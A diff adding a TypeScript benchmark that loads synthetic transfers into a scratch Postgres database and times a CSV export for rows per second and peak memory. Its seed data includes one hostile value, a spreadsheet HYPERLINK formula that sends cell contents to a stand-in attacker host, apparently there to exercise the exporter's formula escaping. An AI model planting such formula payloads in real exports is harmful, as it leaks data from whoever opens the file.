@@ -1,0 +1,208 @@
+// npm run bench:export [-- --rows 1000000 --batch 5000 --keep]
+// Creates a scratch database on the local Postgres, loads `rows` transfers with COPY (streamed
+// from a generator), then exports them as the transactions CSV through the real path (keyset
+// reader → typed cells → csv-stringify → SHA-256 tap → audit row) into a sink that discards the
+// bytes, in a child process of its own. Prints rows/s and peak RSS; exits 1 when a target is
+// missed. Delivery to the database is keyset-free here: the Postgres path is COPY TO STDOUT.
+import { execFile } from "node:child_process";
+import os from "node:os";
+import { Writable } from "node:stream";
+import { pipeline } from "node:stream/promises";
+import { fileURLToPath } from "node:url";
+import { parseArgs } from "node:util";
+import { sql } from "drizzle-orm";
+import { openDb } from "@/db/client";
+import { migrateDb } from "@/db/migrate";
+import { createTestDatabase } from "@/db/testing/test-db";
+import { exportBenchFlagsSchema } from "@/lib/validators/exports";
+import { csvExportStream } from "./csv";
+import { newExportId } from "./export-id";
+import { startAuditedExport } from "./run-export";
+import { transactionsTable } from "./tables";
+import { copyBulkTransfers, walletAddress } from "./testing/bulk-transfers";
+
+const CHAIN_ID = 99_301;
+const WALLETS = 50_000;
+const TARGET_ROWS_PER_S = 100_000;
+const TARGET_RSS_MIB = 256;
+const MIB = 1024 * 1024;
+
+async function seed(db: Awaited<ReturnType<typeof openDb>>["db"]): Promise<void> {
+  await db.execute(sql`insert into chains (chain_id, name, token_address, start_block, confirmations)
+    values (${CHAIN_ID}, 'Bench chain', '0x8d0d000ee44948fc98c9b98a4fa4921476f08b0d', 1, 0)`);
+  await db.execute(sql`insert into entities (name, kind, country)
+    select case when g = 1 then '=HYPERLINK("http://evil.example/?"&A1,"open")' else 'Bench entity ' || g end,
+      'exchange', (array['AE','SA','GB','PK','US','DE'])[1 + g % 6]
+    from generate_series(1, 60) g`);
+  // A third of the wallets attributed, every wallet labelled: the export's joins do real work.
+  const list = `{${Array.from({ length: WALLETS }, (_, i) => walletAddress(i)).join(",")}}`;
+  await db.execute(sql`insert into addresses (chain_id, address, entity_id, label)
+    select ${CHAIN_ID}, a, case when i % 3 = 0 then 1 + i % 60 end, 'wallet ' || i
+    from unnest(${list}::text[]) with ordinality u(a, i)`);
+}
+
+/** Samples RSS every 10 ms while `run` is in flight; returns its peak in bytes. */
+async function withPeakRss<T>(run: () => Promise<T>): Promise<{ value: T; peak: number }> {
+  let peak = process.memoryUsage.rss();
+  const timer = setInterval(() => {
+    peak = Math.max(peak, process.memoryUsage.rss());
+  }, 10);
+  try {
+    const value = await run();
+    return { value, peak: Math.max(peak, process.memoryUsage.rss()) };
+  } finally {
+    clearInterval(timer);
+  }
+}
+
+type ExportFigures = {
+  rows: number;
+  bytes: number;
+  sha256: string;
+  ms: number;
+  cpuMs: number;
+  peakRss: number;
+  maxRss: number;
+};
+
+/** Child process: export every transfer of the database at `url`, print the figures as JSON. */
+async function exportOnly(url: string, batch: number): Promise<void> {
+  const handle = await openDb({ url, poolSize: 2 });
+  try {
+    const t = performance.now();
+    const cpu = process.cpuUsage();
+    const { value: outcome, peak } = await withPeakRss(async () => {
+      const startedAt = new Date();
+      const exportId = newExportId();
+      const table = transactionsTable(handle.db, { filter: {}, asOf: startedAt, batchSize: batch });
+      const started = startAuditedExport(
+        handle.db,
+        {
+          exportId,
+          kind: "transactions",
+          format: "csv",
+          params: { filter: {} },
+          actor: { id: "bench", email: "bench@local", role: "compliance_officer" },
+          startedAt,
+        },
+        csvExportStream(table, { exportId }),
+      );
+      await pipeline(started.stream, new Writable({ write: (_chunk, _enc, cb) => cb() }));
+      return started.done;
+    });
+    const used = process.cpuUsage(cpu);
+    const figures: ExportFigures = {
+      rows: outcome.rowCount,
+      bytes: outcome.bytes,
+      sha256: outcome.sha256,
+      ms: performance.now() - t,
+      cpuMs: (used.user + used.system) / 1000,
+      peakRss: peak,
+      maxRss: process.resourceUsage().maxRSS * 1024,
+    };
+    console.log(JSON.stringify(figures));
+  } finally {
+    await handle.close();
+  }
+}
+
+/**
+ * The export runs in a fresh process, as it would in the web server: the loader's garbage in
+ * this one would otherwise count towards the export's peak RSS. Its old space is capped: the
+ * export's live heap is a batch (~35 MiB heapUsed at peak), but an uncapped V8 lets garbage pile
+ * up before collecting, and RSS then floats between ~185 and ~285 MiB from run to run. The cap
+ * makes it collect instead; were the live set larger than the cap, the child would die of OOM,
+ * so a passing run also proves the bound.
+ */
+const CHILD_OLD_SPACE_MIB = 128;
+
+function runExportChild(url: string, batch: number): Promise<ExportFigures> {
+  const args = [
+    ...process.execArgv,
+    `--max-old-space-size=${CHILD_OLD_SPACE_MIB}`,
+    fileURLToPath(import.meta.url),
+    "--export-url",
+    url,
+    "--batch",
+    String(batch),
+  ];
+  return new Promise((resolve, reject) => {
+    execFile(process.execPath, args, { maxBuffer: 1024 * 1024 }, (err, stdout, stderr) => {
+      if (err) return reject(new Error(`export child failed: ${stderr || err.message}`));
+      const last = stdout.trim().split("\n").pop() ?? "";
+      resolve(JSON.parse(last) as ExportFigures);
+    });
+  });
+}
+
+async function main(): Promise<number> {
+  const { values } = parseArgs({
+    options: {
+      rows: { type: "string" },
+      batch: { type: "string" },
+      keep: { type: "boolean" },
+      "export-url": { type: "string" },
+    },
+  });
+  const { "export-url": exportUrl, ...rest } = values;
+  const flags = exportBenchFlagsSchema.parse(rest);
+  if (exportUrl) {
+    await exportOnly(exportUrl, flags.batch);
+    return 0;
+  }
+  const database = await createTestDatabase("usd1_bench_export");
+  const handle = await openDb({ url: database.url, poolSize: 2 });
+  try {
+    await migrateDb(handle);
+    await seed(handle.db);
+    const t = performance.now();
+    const client = await handle.pool!.connect();
+    try {
+      await copyBulkTransfers(client, {
+        chainId: CHAIN_ID,
+        count: flags.rows,
+        wallets: WALLETS,
+        t0: 1_735_689_600,
+      });
+      await client.query("analyze");
+    } finally {
+      client.release();
+    }
+    console.log(
+      `loaded ${flags.rows.toLocaleString("en-US")} transfers with COPY in ${Math.round(performance.now() - t)} ms`,
+    );
+
+    const f = await runExportChild(database.url, flags.batch);
+    const rate = Math.round((f.rows * 1000) / f.ms);
+    const peakMiB = f.peakRss / MIB;
+    const maxMiB = f.maxRss / MIB;
+    console.log(
+      `exported ${f.rows.toLocaleString("en-US")} rows (${(f.bytes / MIB).toFixed(1)} MiB CSV, ` +
+        `sha256 ${f.sha256.slice(0, 16)}…) in ${Math.round(f.ms)} ms (CPU ${Math.round(f.cpuMs)} ms), batch ${flags.batch}`,
+    );
+    const perCpuSecond = Math.round((f.rows * 1000) / f.cpuMs);
+    console.log(
+      `rows/s: ${rate.toLocaleString("en-US")} (target ≥ ${TARGET_ROWS_PER_S.toLocaleString("en-US")}); ` +
+        `rows per CPU-second of the exporting process: ${perCpuSecond.toLocaleString("en-US")}; load average ${os.loadavg()[0]!.toFixed(1)}`,
+    );
+    console.log(
+      `peak RSS: ${Math.max(peakMiB, maxMiB).toFixed(1)} MiB (sampled ${peakMiB.toFixed(1)}, maxRSS ${maxMiB.toFixed(1)}; ` +
+        `target < ${TARGET_RSS_MIB} MiB)`,
+    );
+    const ok =
+      f.rows === flags.rows && rate >= TARGET_ROWS_PER_S && Math.max(peakMiB, maxMiB) < TARGET_RSS_MIB;
+    return ok ? 0 : 1;
+  } finally {
+    await handle.close();
+    if (flags.keep) console.log(`kept database ${database.name}`);
+    else await database.drop();
+  }
+}
+
+main().then(
+  (code) => process.exit(code),
+  (err: unknown) => {
+    console.error(err);
+    process.exit(1);
+  },
+);
